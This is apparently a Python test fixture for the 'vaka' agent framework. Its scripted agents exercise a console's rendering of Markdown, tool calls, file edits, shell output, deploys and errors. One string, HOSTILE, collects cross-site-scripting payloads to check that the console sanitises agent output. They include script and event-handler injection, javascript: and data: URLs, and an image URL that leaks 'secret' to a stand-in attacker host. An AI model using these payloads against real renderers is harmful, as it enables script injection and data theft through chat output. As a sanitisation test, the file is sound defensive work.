"""Agents with a scripted model that show everything the console draws."""

import asyncio
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Annotated, Any, Literal

import vaka
from vaka.agents.react import Agent
from vaka.core.ports.model import Chunk, Prompt, ReasoningChunk, StopChunk, TextChunk, UsageChunk
from vaka.core.types.message import Usage
from vaka.testing import ScriptedModel, call, calls, fail, say

ANSWER = """## Two ways to Hilo

The **coast road** is longer, but open; the *saddle road* is closed at night.

1. Leave before six.
2. Take water along: `2 l` for each person.
   - and a hat

| road | km | open |
|---|---:|---|
| coast | 121 | yes |
| saddle | 87 | until 18:00 |

```python
def minutes(km: float, speed: float = 70) -> float:
    \"\"\"How long it takes.\"\"\"
    return 60 * km / speed  # without stops
```

> The forecast says rain after noon.

See [the map](https://example.org/map) for more."""

HOSTILE = (
    "![pixel](https://evil.example/pixel.png?q=secret) "
    "[click](javascript:window.hacked=3) <b onclick='window.hacked=13'>bold</b>\n\n"
    "<script>window.hacked = 1</script>"
    "<img src=x onerror='window.hacked = 2'>"
    "<svg onload='window.hacked=4'></svg>"
    "<iframe srcdoc='<script>parent.hacked=5</script>'></iframe>"
    "<a href='data:text/html,<script>window.hacked=6</script>'>data</a>\n\n"
    '<style>body{display:none}</style><form action="https://evil.example"><button>go</button></form>\n\n'
    "```html\n<script>window.hacked = 7</script>\n```\n\n"
    "| <img src=x onerror=window.hacked=8> |\n|---|\n| [x](vbscript:msgbox) |"
)
BEFORE = "def speed(km, hours):\n    return km / hours\n\n\nLIMIT = 70\n"
AFTER = "def speed(km: float, hours: float) -> float:\n    return km / hours if hours else 0.0\n\n\nLIMIT = 80\n"


@vaka.tool(effect="read")
async def weather(city: Annotated[str, "The city."], days: Annotated[int, "Days ahead."] = 1) -> dict[str, Any]:
    """Return the weather of a city."""
    if city == "Atlantis":
        raise ValueError("there is no Atlantis on any map")
    return {"city": city, "days": days, "sky": "clear", "wind": {"from": "north-east", "knots": 12}}


@vaka.tool(effect="idempotent")
async def edit_file(file_path: str, old_string: str, new_string: str) -> str:
    """Replace a text in a file."""
    return f"{file_path} was changed: {len(old_string)} characters became {len(new_string)}"


@vaka.tool
async def shell(context: vaka.ToolContext[Any], command: str) -> str:
    """Run a command."""
    lines = [f"{number:>4}  {command}\n" for number in range(1, 31)]
    for line in lines:
        context.emit(line)
    return "".join(lines)


@vaka.tool
async def deploy(
    service: Annotated[str, "What is deployed."], to: Literal["staging", "production"] = "staging", replicas: int = 2
) -> str:
    """Deploy a service."""
    return f"{service} runs on {to} with {replicas} replicas"


@vaka.tool(effect="resume")
async def choose(context: vaka.ToolContext[Any]) -> str:
    """Let a person choose a road."""
    return str(await context.ask("Which road should be taken?", options=("coast road", "saddle road")))


def usage(**tokens: Any) -> dict[str, Any]:
    return {"usage": {"input": 1840, "output": 312, "cache_read": 1400, "reasoning": 96, "cost": 0.0123, **tokens}}


def pieces(text: str, size: int = 7) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def make_agents() -> list[Agent]:
    """Return the agents; each answers the n-th model call of a session with its n-th line."""
    return [make_guide(), make_operator(), make_asker(), make_locator(), make_hostile(), make_broken()]


def make_guide() -> Agent:
    """An agent with reasoning, tools that succeed and fail, an edit, printed output, a child agent and Markdown."""
    first = calls(call("weather", city="Hilo"), call("weather", city="Atlantis", days=3), text="Let me look.")
    edit = call("edit_file", file_path="src/roads.py", old_string=BEFORE, new_string=AFTER)
    scouting = [call("weather", city="Kona") | usage(), say("Kona is dry, with wind from the north-east.", **usage())]
    model = ScriptedModel(
        {"reasoning": "The question is about roads. The weather of both sides comes first.", **first, **usage()},
        calls(edit, call("shell", command="pytest -q tests/roads")) | usage(),
        call("scout", prompt="How is Kona?") | usage(),
        {"chunks": pieces(ANSWER), "reasoning": "Now the answer.", **usage(output=940, cost=0.04)},
        say("You are welcome. 🌺", **usage()),
        agents={"scout": scouting, "summary": [say("<summary>There are two roads to Hilo.</summary>", **usage())]},
    )
    scout = vaka.Agent("scout", description="Looks at one place.", model=model, tools=[weather])
    return vaka.Agent(
        "guide", description="Plans a day on the island.", model=model, tools=[weather, edit_file, shell, scout]
    )


def make_operator() -> Agent:
    model = ScriptedModel(
        call("deploy", service="roads", to="production", replicas=4) | usage(),
        say("It is deployed.", **usage()),
        call("deploy", service="<b>tides</b>", replicas=1) | usage(),
        say("That one is deployed, too.", **usage()),
    )
    description = "Deploys services, after a person has agreed."
    return vaka.Agent("operator", description=description, model=model, tools=[deploy])


def make_asker() -> Agent:
    model = ScriptedModel(call("choose"), say("Good choice."))
    return vaka.Agent("asker", description="Asks before it answers.", model=model, tools=[choose])


def make_locator() -> Agent:
    """An agent that calls a tool of its client, which a request of the client has to bring."""
    model = ScriptedModel(call("locate", exact=True), say("Found."))
    return vaka.Agent("locator", description="Asks the client where it is.", model=model)


def make_hostile() -> Agent:
    """Return an agent whose output, arguments and description try to run scripts and to load from elsewhere."""
    first = call("weather", city="<img src=x onerror=window.hacked=9>")
    model = ScriptedModel(
        {**first, "text": HOSTILE, "reasoning": HOSTILE, **usage()},
        say(HOSTILE, **usage()),
    )
    return vaka.Agent("hostile", description=HOSTILE[:120], model=model, tools=[weather])


def make_broken() -> Agent:
    return vaka.Agent("broken", description="Fails.", model=ScriptedModel(fail(400, "the model refuses: no credit")))


class GatedModel:
    """Says the first half of an answer, and the rest once a text was written to a named pipe."""

    name = "gated"

    def __init__(self, gate: Path, first: str, rest: str) -> None:
        self.gate = gate
        self.first = first
        self.rest = rest

    async def stream(self, prompt: Prompt) -> AsyncGenerator[Chunk]:
        """Yield the chunks of an answer."""
        yield ReasoningChunk("I think before I speak.")
        for piece in pieces(self.first):
            yield TextChunk(piece)
        await asyncio.to_thread(self.gate.read_text)
        for piece in pieces(self.rest):
            yield TextChunk(piece)
        yield UsageChunk(Usage(input=120, output=60), f"{self.name}-2026-01-31")
        yield StopChunk("end")
